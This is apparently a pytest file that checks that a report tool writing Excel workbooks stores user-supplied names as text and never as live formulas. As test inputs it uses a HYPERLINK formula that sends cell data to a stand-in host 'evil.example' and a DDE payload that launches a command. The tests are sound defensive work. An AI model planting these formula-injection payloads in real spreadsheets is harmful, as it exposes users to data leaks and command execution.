"""User text goes into workbooks as text: a name starting with "=" never becomes a live formula."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import openpyxl
import yaml

from jixiao.core.evaluate import Result
from jixiao.report.write import write_table

EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(path)
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


def assert_text_not_formula(path: Path, *texts: str) -> None:
    found = cells(path)
    formulas = [c.coordinate for c in found if c.data_type == "f"]
    assert not formulas, f"formula cells {formulas} in {path.name}"
    values = [c.value for c in found]
    for text in texts:
        assert any(isinstance(v, str) and text in v for v in values), text


def test_table_xlsx_writes_names_as_text_and_numbers_as_numbers(seed: Result, tmp_path: Path) -> None:
    ev = seed.evaluation.model_copy(deep=True)
    ev.unit.name = HOSTILE
    ev.indicators[0].name = "=1+1"
    ev.indicators[1].name = "@SUM(A1:A9)\x07"  # plus a control character a workbook cannot hold
    out = tmp_path / "t.xlsx"
    write_table(Result(ev, seed.scorecard, seed.findings), out)
    assert_text_not_formula(out, HOSTILE, "=1+1", "@SUM(A1:A9)")
    numbers = [c.value for c in cells(out) if c.data_type == "n"]
    assert 3142.55 in numbers and 85 in numbers


def _run(*args: str | Path, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "jixiao", *map(str, args)], capture_output=True, text=True, cwd=cwd,
                          timeout=120, env={"PATH": "/usr/bin:/bin", "PYTHONIOENCODING": "utf-8"})


def test_cli_table_keeps_formulas_out(tmp_path: Path) -> None:
    data = yaml.safe_load((EXAMPLES / "xinshi-commerce-2024.yaml").read_text("utf-8"))
    data["unit"]["name"] = HOSTILE
    data["indicators"][0]["name"] = "=cmd|' /C calc'!A0"
    source = tmp_path / "hostile.yaml"
    source.write_text(yaml.safe_dump(data, allow_unicode=True), "utf-8")
    done = _run("table", source, "-o", "t.xlsx", "--allow-errors", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert_text_not_formula(tmp_path / "t.xlsx", HOSTILE, "=cmd|' /C calc'!A0")


def test_cli_audit_xlsx_keeps_formulas_out(tmp_path: Path) -> None:
    from audit.conftest import SEED

    text = SEED.read_text("utf-8").replace("乌鲁木齐高新技术产业开发区(乌鲁木齐市新市区)商务局", HOSTILE, 1)
    report = tmp_path / "=HYPERLINK(1).txt"
    report.write_text(text, "utf-8")
    done = _run("audit", report, "--format", "xlsx", "-o", "audit.xlsx", cwd=tmp_path)
    assert done.returncode in (0, 1), done.stderr
    assert_text_not_formula(tmp_path / "audit.xlsx", "=HYPERLINK(1).txt")
